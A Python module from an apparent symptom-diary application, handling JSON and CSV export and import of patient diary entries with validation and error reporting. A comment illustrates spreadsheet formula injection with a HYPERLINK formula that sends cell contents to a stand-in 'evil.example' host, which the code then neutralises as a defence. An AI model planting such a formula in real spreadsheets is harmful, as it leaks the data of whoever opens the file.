"""Diary export and import: JSON (the exchange format) and CSV (for spreadsheets).

Both round-trip losslessly: ``from_json(to_json(d)) == d`` and ``from_csv(to_csv(d)) == d``
for every valid diary (property-tested).

CSV layout: one row per entry, in the diary's order.  Fixed columns::

    date, time, author, walking, stairs, rising_from_chair, sleep, falls,
    bladder_change, bowel_change, saddle_numbness, sudden_weakness, sudden_weakness_side,
    medication_changes, events, notes

plus one column per rated region, numb area and graded movement that occurs in the diary:
``pain:<region>:<side>`` (score 0-10), ``numb:<region>:<side>`` (``yes`` or empty) and
``mrc:<movement>:<side>`` (MRC 0-5).  Yes/no answers are ``yes``/``no``; an empty cell is
"not recorded".  ``medication_changes`` and ``events`` hold a compact JSON list (free text
with commas and quotes survives a spreadsheet that way).  Numbers are written so that
reading them back gives the same float.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable

from pydantic import ValidationError

from plexnav import vocabulary as V
from plexnav.diary.models import FUNCTION_DOMAINS, Diary, DiaryEntry

FLAGS = ("bladder_change", "bowel_change", "saddle_numbness", "sudden_weakness")
LEADING = ("date", "time", "author")
MIDDLE = (*FUNCTION_DOMAINS, "falls", *FLAGS, "sudden_weakness_side")
TRAILING = ("medication_changes", "events", "notes")
FIXED = LEADING + MIDDLE + TRAILING
YES = {"yes", "y", "true", "1"}
NO = {"no", "n", "false", "0", ""}


class DiaryFormatError(ValueError):
    """A diary document that cannot be read: every problem, located."""

    def __init__(self, problems: list[str]):
        self.problems = problems
        super().__init__("; ".join(problems))


def _located(exc: ValidationError, prefix: str) -> list[str]:
    out = []
    for err in exc.errors():
        path = ".".join(str(p) for p in err["loc"])
        where = f"{prefix}{path}" if path else prefix.rstrip(".: ") or "diary"
        out.append(f"{where}: {err['msg']}")
    return out


# ----------------------------------------------------------------------------- JSON


def to_json(diary: Diary, indent: int | None = 2) -> str:
    """The diary as JSON (``"format": "plexnav-diary/1"``); fields at their default are left out."""
    doc = {"format": diary.format, "entries": [e.model_dump(mode="json", exclude_defaults=True) for e in diary.entries]}
    return json.dumps(doc, indent=indent, ensure_ascii=False)


def from_json(text: str | bytes) -> Diary:
    """Read a JSON diary; raises :class:`DiaryFormatError` with located problems."""
    try:
        data = json.loads(text)
    except (json.JSONDecodeError, UnicodeDecodeError) as exc:
        raise DiaryFormatError([f"not valid JSON: {exc}"]) from None
    if not isinstance(data, dict):
        raise DiaryFormatError([f"a diary must be a JSON object, not {type(data).__name__}"])
    try:
        return Diary.model_validate(data)
    except ValidationError as exc:
        raise DiaryFormatError(_located(exc, "")) from None


# ----------------------------------------------------------------------------- CSV


def _num(value: float) -> str:
    value = float(value)
    return str(int(value)) if value.is_integer() and abs(value) < 1e15 else repr(value)


def _dynamic_columns(entries: Iterable[DiaryEntry]) -> tuple[list[str], list[str], list[str]]:
    pain, numb, mrc = set(), set(), set()
    for e in entries:
        pain |= {(p.region, p.side) for p in e.pain}
        numb |= {(n.region, n.side) for n in e.numbness}
        mrc |= {(g.movement, g.side) for g in e.strength}
    region_order = {r: i for i, r in enumerate(V.SKIN_REGIONS)}
    side_order = {s: i for i, s in enumerate(V.SIDES)}
    move_order = {m: i for i, m in enumerate(V.MOVEMENTS)}
    by_region = lambda k: (region_order[k[0]], side_order[k[1]])  # noqa: E731
    return (
        [f"pain:{r}:{s}" for r, s in sorted(pain, key=by_region)],
        [f"numb:{r}:{s}" for r, s in sorted(numb, key=by_region)],
        [f"mrc:{m}:{s}" for m, s in sorted(mrc, key=lambda k: (move_order[k[0]], side_order[k[1]]))],
    )


def csv_columns(diary: Diary) -> list[str]:
    pain, numb, mrc = _dynamic_columns(diary.entries)
    return [*LEADING, *pain, *numb, *MIDDLE, *mrc, *TRAILING]


def _row(entry: DiaryEntry) -> dict[str, str]:
    row = {
        "date": entry.date.isoformat(),
        "time": entry.time.isoformat() if entry.time else "",
        "author": entry.author,
        "falls": str(entry.falls),
        "sudden_weakness_side": entry.sudden_weakness_side or "",
        "medication_changes": json.dumps(
            [m.model_dump(mode="json") for m in entry.medication_changes], ensure_ascii=False, separators=(",", ":")
        )
        if entry.medication_changes
        else "",
        "events": json.dumps(
            [e.model_dump(mode="json") for e in entry.events], ensure_ascii=False, separators=(",", ":")
        )
        if entry.events
        else "",
        "notes": entry.notes,
    }
    for domain in FUNCTION_DOMAINS:
        value = getattr(entry.function, domain)
        row[domain] = "" if value is None else _num(value)
    for flag in FLAGS:
        row[flag] = "yes" if getattr(entry, flag) else "no"
    for p in entry.pain:
        row[f"pain:{p.region}:{p.side}"] = _num(p.score)
    for n in entry.numbness:
        row[f"numb:{n.region}:{n.side}"] = "yes"
    for g in entry.strength:
        row[f"mrc:{g.movement}:{g.side}"] = _num(g.mrc)
    return row


# Spreadsheets run a cell that starts with = + - @ (or tab/CR) as a formula: a diary note
# such as =HYPERLINK("https://evil.example?"&A1) would run when a clinician opens the
# export.  OWASP's advice: prefix such cells with a single quote.  A cell that already
# starts with a quote before one of those characters gets one more, so the import strips
# exactly one and every text comes back as it was typed.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise_cell(text: str) -> str:
    if text.startswith(FORMULA_START) or (text.startswith("'") and text.lstrip("'").startswith(FORMULA_START)):
        return "'" + text
    return text


def restore_cell(text: str) -> str:
    if text.startswith("'") and text.lstrip("'").startswith(FORMULA_START):
        return text[1:]
    return text


def to_csv(diary: Diary) -> str:
    """The diary as CSV text (one row per entry; see the module docstring for the columns)."""
    buffer = io.StringIO(newline="")
    writer = csv.DictWriter(buffer, fieldnames=csv_columns(diary), restval="", lineterminator="\r\n")
    writer.writeheader()
    for entry in diary.entries:
        writer.writerow({k: neutralise_cell(v) for k, v in _row(entry).items()})
    return buffer.getvalue()


def _column_kind(name: str) -> tuple[str, str, str] | None:
    """('pain'|'numb'|'mrc', target, side) for a dynamic column, else None."""
    parts = name.split(":")
    if len(parts) != 3 or parts[2] not in V.SIDES:
        return None
    kind, target, side = parts
    if kind in ("pain", "numb") and target in V.SKIN_REGIONS:
        return kind, target, side
    if kind == "mrc" and target in V.MOVEMENTS:
        return kind, target, side
    return None


def _number(text: str, where: str, problems: list[str]) -> float | None:
    try:
        return float(text)
    except ValueError:
        problems.append(f"{where}: '{text}' is not a number")
        return None


def _parse_row(row: dict[str, str], line: int, problems: list[str]) -> dict:
    data: dict = {"pain": [], "numbness": [], "strength": [], "function": {}}
    for name, raw in row.items():
        raw = restore_cell(raw) if isinstance(raw, str) else raw
        text = raw if name == "notes" else raw.strip()
        where = f"row {line}, column '{name}'"
        if name in FUNCTION_DOMAINS:
            if text:
                data["function"][name] = _number(text, where, problems)
        elif name in FLAGS:
            if text.lower() not in YES | NO:
                problems.append(f"{where}: '{text}' is not yes or no")
            data[name] = text.lower() in YES
        elif name == "falls":
            if text:
                try:
                    data["falls"] = int(text)
                except ValueError:
                    problems.append(f"{where}: '{text}' is not a whole number")
        elif name in ("medication_changes", "events"):
            if text:
                try:
                    data[name] = json.loads(text)
                except json.JSONDecodeError as exc:
                    problems.append(f"{where}: not a JSON list ({exc.msg})")
        elif name in ("date", "author", "notes"):
            if text or name == "notes":
                data[name] = text
        elif name in ("time", "sudden_weakness_side"):
            if text:
                data[name] = text
        else:
            column = _column_kind(name)
            assert column is not None  # the header was checked before any row is read
            kind, target, side = column
            if not text:
                continue
            if kind == "pain":
                data["pain"].append({"region": target, "side": side, "score": _number(text, where, problems)})
            elif kind == "mrc":
                data["strength"].append({"movement": target, "side": side, "mrc": _number(text, where, problems)})
            elif text.lower() in YES:
                data["numbness"].append({"region": target, "side": side})
            elif text.lower() not in NO:
                problems.append(f"{where}: '{text}' is not yes or empty")
    return data


def from_csv(text: str | bytes) -> Diary:
    """Read a CSV diary (as written by :func:`to_csv`, or edited in a spreadsheet)."""
    if isinstance(text, bytes):
        try:
            text = text.decode("utf-8")
        except UnicodeDecodeError as exc:
            raise DiaryFormatError([f"the file is not UTF-8 text ({exc.reason})"]) from None
    text = text.removeprefix("\ufeff")
    reader = csv.DictReader(io.StringIO(text, newline=""), restkey="\0extra")
    columns = reader.fieldnames or []
    if not columns:
        raise DiaryFormatError(["the CSV has no header row"])
    problems = []
    unknown = [c for c in columns if c not in FIXED and _column_kind(c) is None]
    if unknown:
        problems.append(
            f"unknown column(s) {', '.join(repr(c) for c in unknown)}; valid: {', '.join(FIXED)}, "
            "pain:<region>:<side>, numb:<region>:<side>, mrc:<movement>:<side>"
        )
    duplicates = sorted({c for c in columns if columns.count(c) > 1})
    if duplicates:
        problems.append(f"column(s) given twice: {', '.join(duplicates)}")
    if "date" not in columns:
        problems.append("the CSV needs a 'date' column")
    if problems:
        raise DiaryFormatError(problems)
    entries = []
    for row in reader:
        line = reader.line_num
        if "\0extra" in row:
            problems.append(f"row {line}: more cells than header columns")
            continue
        if None in row.values():
            problems.append(f"row {line}: fewer cells than header columns")
            continue
        data = _parse_row(row, line, problems)
        try:
            entries.append(DiaryEntry.model_validate(data))
        except ValidationError as exc:
            problems += _located(exc, f"row {line}: ")
    if problems:
        raise DiaryFormatError(problems)
    return Diary(entries=entries)


def read_diary(text: str | bytes, name: str = "") -> Diary:
    """Read a diary file, CSV when the name ends in .csv, JSON otherwise."""
    return from_csv(text) if name.lower().endswith(".csv") else from_json(text)
